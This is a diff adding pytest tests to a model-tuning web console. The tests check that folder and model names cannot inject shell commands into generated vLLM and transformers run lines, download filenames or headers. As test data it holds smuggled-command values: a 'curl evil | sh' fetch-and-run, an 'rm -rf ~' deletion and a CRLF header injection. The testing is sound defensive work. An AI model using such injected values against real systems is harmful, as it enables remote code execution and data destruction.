@@ -2,7 +2,8 @@ import hashlib
 
 import pytest
 
-from jobs.models import Takeaway
+from console.presenters.tuning.takeaway import run_lines
+from jobs.models import OutputListing, Takeaway
 from jobs.services.storage import output_files
 from jobs.services.tuned_models import takeaways
 from tests.support import factories
@@ -105,3 +106,37 @@ def test_nobody_else_gets_at_it(visitor, job, client, stranger):
     client.force_login(stranger)
     addresses = [url(job), *(f"/tuning/downloads/{row.pk}/{rest}" for rest in ("0/", "archive.tar", "sha256"))]
     assert [client.get(address).status_code for address in addresses] == [404] * 4
+
+
+def test_neither_a_folder_nor_a_model_can_write_a_line_for_a_shell(visitor, fake_gateway):
+    """Whoever may write to the bucket names the folders; whoever answers for Vertex AI names the models."""
+    hostile = "checkpoint-5'; curl evil | sh; \""
+    job = factories.job(state="SUCCEEDED", display_name="ok", base_model="google/gemma3@x; rm -rf ~")
+    place = f"{job.output_uri}/postprocess/node-0/checkpoints/{hostile}"
+    files = {"adapter_config.json": b"{}", "adapter_model.safetensors": WEIGHTS, "..": b"up", ".": b"here"}
+    fake_gateway.storage.objects |= {f"{place}/{name}": content for name, content in files.items()}
+    visitor.get(url(job))
+    output_files.run(job.pk, factories.NOW)
+    visitor.post(url(job), {"take": f"adapter {place}"})
+    row = Takeaway.objects.get()
+    while takeaways.advance(row.pk, factories.NOW):
+        pass
+    name = "ok-checkpoint-5-curl-evil-sh-adapter"
+    assert [one["name"] for one in row.files] == ["adapter_config.json", "adapter_model.safetensors"]
+    lines = dict(run_lines(row))
+    assert lines["vLLM"] == f"tar -xf {name}.tar\nvllm serve BASE-MODEL --enable-lora --lora-modules mine=./{name}"
+    assert "from_pretrained('BASE-MODEL')" in lines["transformers"]
+    for part in ("archive.tar", "sha256"):
+        response = visitor.get(f"/tuning/downloads/{row.pk}/{part}")
+        assert (response.status_code, f'filename="{name}.' in response["Content-Disposition"]) == (200, True)
+
+
+def test_a_folder_to_which_no_address_leads_is_left_out_and_keeps_nobody_waiting(visitor, job, fake_gateway):
+    place = f"{job.output_uri}/postprocess/node-0/checkpoints/final\r\nX-Evil: 1"
+    fake_gateway.storage.objects |= {f"{place}/adapter_config.json": b"{}", f"{job.output_uri}/a\nb": b""}
+    visitor.get(url(job))
+    output_files.run(job.pk, factories.NOW)
+    names = [one["name"] for one in OutputListing.objects.get().files]
+    assert names == [f"{FOLDER}/config.json", f"{FOLDER}/model.safetensors"]
+    assert visitor.post(url(job), {"take": f"adapter {place}"}).status_code == 400
+    assert Takeaway.objects.count() == 0
